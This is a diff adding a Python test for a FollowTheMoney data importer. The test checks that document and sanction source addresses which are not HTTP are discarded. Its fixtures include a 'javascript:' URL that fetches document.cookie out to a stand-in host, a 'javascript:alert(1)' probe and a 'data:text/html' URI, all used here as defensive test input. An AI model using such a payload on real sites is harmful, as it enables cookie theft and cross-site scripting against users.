@@ -388,3 +388,29 @@ def test_a_recognition_under_a_new_id_is_not_recorded_twice(db: Db, tmp_path: Pa
         {"id": "w-recognition-0f3a9c", "schema": "Sanction", "properties": rec},
     ]) + "\n", "utf-8")
     assert import_ftm(db.engine, path=path, organisation="Org W", actor="t").recognitions == 1
+
+
+def test_a_source_address_that_is_not_http_is_left_out(db: Db, tmp_path: Path) -> None:
+    """Another organisation's Document with sourceUrl 'javascript:...' was stored as the source's address, which
+    the person page renders as a link and `publish` writes to sources.jsonl; a source added by hand refuses it."""
+    from kartoteka.db.tables import recognitions, sources
+
+    path = tmp_path / "x.json"
+    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in [
+        {"id": "v-person-1", "schema": "Person", "properties": {"name": ["Ссылкин Семён"]}},
+        {"id": "v-doc-1", "schema": "Document", "properties": {"title": ["Один"], "sourceUrl": [
+            "javascript:fetch('//evil.test/'+document.cookie)", "https://example.org/ok"]}},
+        {"id": "v-doc-2", "schema": "Document", "properties": {"title": ["Два"], "sourceUrl": ["data:text/html,<b>"]}},
+        {"id": "v-dd-1", "schema": "Documentation", "properties": {"document": ["v-doc-1"], "entity": ["v-person-1"]}},
+        {"id": "v-dd-2", "schema": "Documentation", "properties": {"document": ["v-doc-2"], "entity": ["v-person-1"]}},
+        {"id": "v-rec-1", "schema": "Sanction", "properties": {"entity": ["v-person-1"], "listingDate": ["2024-01"],
+                                                             "sourceUrl": ["javascript:alert(1)"], "reason": ["Заявление"]}},
+    ]) + "\n", "utf-8")
+    report = import_ftm(db.engine, path=path, organisation="Org V", actor="t")
+    assert (report.sources, report.recognitions) == (2, 1)
+    with db.engine.connect() as conn:
+        urls = dict(conn.execute(select(sources.c.title, sources.c.url)).all())
+        said = conn.execute(select(statements.c.value).where(statements.c.prop == "recognition")).scalars().all()
+        recognised = conn.execute(select(recognitions.c.statement)).scalars().all()
+    assert urls == {"Один": "https://example.org/ok", "Два": ""}
+    assert recognised == ["Заявление"] and said and all("javascript" not in v for v in said)
